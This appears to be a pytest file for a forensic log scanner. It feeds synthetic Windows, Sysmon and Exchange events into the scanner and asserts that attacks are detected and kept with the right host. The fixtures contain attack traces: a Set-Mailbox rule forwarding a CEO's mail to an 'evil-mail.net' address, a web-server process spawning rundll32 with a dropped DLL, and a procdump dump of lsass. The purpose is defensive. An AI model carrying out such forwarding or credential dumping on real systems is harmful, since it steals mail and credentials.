"""Issue 13's missing detections, as a user hands them over (flattened JSON-lines event exports),
through the installed command: forwarding to an outside address, w3wp injecting into or starting
unusual processes and making explicit-credential logons, findings kept with the host that wrote them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from .conftest import EXIT, load, run, snapshot

SYSMON = {"Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon"}
SECURITY = {"Channel": "Security", "SourceName": "Microsoft-Windows-Security-Auditing"}
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"


def _scan_events(tmp_path: Path, records: list[dict[str, Any]]) -> dict[str, Any]:
    case = tmp_path / "case"
    case.mkdir()
    (case / "events.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    before = snapshot(case)
    r = run("scan", case, "-q", "-j", "1", "--json", tmp_path / "r.json")
    result = load(tmp_path / "r.json")
    assert r.rc == EXIT[result["verdict"]], r.tail()
    assert snapshot(case) == before
    return result


def _finding_text(result: dict[str, Any], needle: str) -> list[str]:
    return [f["rule_id"] for f in result["findings"] if needle.lower() in json.dumps(f).lower()]


def test_mailbox_forwarding_to_an_outside_address(tmp_path: Path) -> None:
    params = '-Identity "ceo" -ForwardingSmtpAddress "smtp:exfil@evil-mail.net" -DeliverToMailboxAndForward "True"'
    record = {
        "@timestamp": "2021-03-04T10:00:01.123Z",
        "message": f"Cmdlet suceeded. Cmdlet Set-Mailbox, parameters {params}.",
        "winlog": {
            "channel": "MSExchange Management",
            "provider_name": "MSExchange CmdletLogs",
            "event_id": 1,
            "record_id": 78,
            "computer_name": "EXCH01.corp.contoso.local",
            "event_data": {"param1": "Set-Mailbox", "param2": params, "param3": "corp/Users/Administrator"},
        },
    }
    result = _scan_events(tmp_path, [record])
    assert result["verdict"] != "no_evidence", result["verdict_reason"]
    assert _finding_text(result, "evil-mail.net"), [f["rule_id"] for f in result["findings"]]


def test_w3wp_injection_unusual_child_and_explicit_credentials(tmp_path: Path) -> None:
    base = {"Hostname": "EXCH01.corp.contoso.local", "Computer": "EXCH01.corp.contoso.local"}
    records = [
        dict(SYSMON, **base, EventID=8, EventRecordID=11, UtcTime="2021-03-04 10:00:00.000", SourceImage=W3WP,
             TargetImage="C:\\Windows\\System32\\notepad.exe", StartFunction="-", NewThreadId="4242"),
        dict(SYSMON, **base, EventID=1, EventRecordID=12, UtcTime="2021-03-04 10:01:00.000",
             Image="C:\\Windows\\System32\\rundll32.exe", CommandLine="rundll32.exe C:\\ProgramData\\x.dll,Start",
             ParentImage=W3WP, ParentCommandLine=f'{W3WP} -ap "MSExchangeOWAAppPool"', User="NT AUTHORITY\\SYSTEM"),
        dict(SECURITY, **base, EventID=4648, EventRecordID=13, TimeCreated="2021-03-04T10:02:00.000Z",
             SubjectUserName="EXCH01$", TargetUserName="Administrator", TargetDomainName="CORP",
             TargetServerName="DC01.corp.contoso.local", ProcessName=W3WP, IpAddress="-"),
    ]
    result = _scan_events(tmp_path, records)
    assert result["verdict"] in {"compromised", "attempted"}, result["verdict_reason"]
    missing = [n for n in ("notepad.exe", "rundll32", "DC01") if not _finding_text(result, n)]
    assert not missing, (missing, [f["rule_id"] for f in result["findings"]])


def test_one_hosts_lsass_dump_does_not_make_another_hosts_logons_success(tmp_path: Path) -> None:
    dump = dict(SYSMON, Hostname="EXCH01.corp.contoso.local", EventID=10, EventRecordID=21,
                UtcTime="2021-03-04 10:00:00.000", SourceImage="C:\\ProgramData\\procdump64.exe",
                TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess="0x1fffff")
    dump_file = dict(SYSMON, Hostname="EXCH01.corp.contoso.local", EventID=11, EventRecordID=22,
                     UtcTime="2021-03-04 10:00:02.000", Image="C:\\ProgramData\\procdump64.exe",
                     TargetFilename="C:\\ProgramData\\lsass.dmp")
    logons = [dict(SECURITY, Hostname="FILESRV02.corp.contoso.local", EventID=4624, EventRecordID=100 + i,
                   TimeCreated=f"2021-03-04T11:0{i}:00.000Z", TargetUserName=f"user{i}", TargetDomainName="CORP",
                   LogonType=3, IpAddress=f"10.0.0.{10 + i}", WorkstationName=f"PC{i}")
              for i in range(5)]
    result = _scan_events(tmp_path, [dump, dump_file, *logons])
    other = [f for f in result["findings"] if "filesrv02" in json.dumps(f).lower()]
    assert not [f for f in other if f["outcome"] == "success"], [(f["rule_id"], f["outcome"]) for f in other]
    warnings = " ".join(result["coverage"]["warnings"]).lower()
    assert "filesrv02" in warnings or "several" in warnings or "computers" in warnings, result["coverage"]["warnings"]
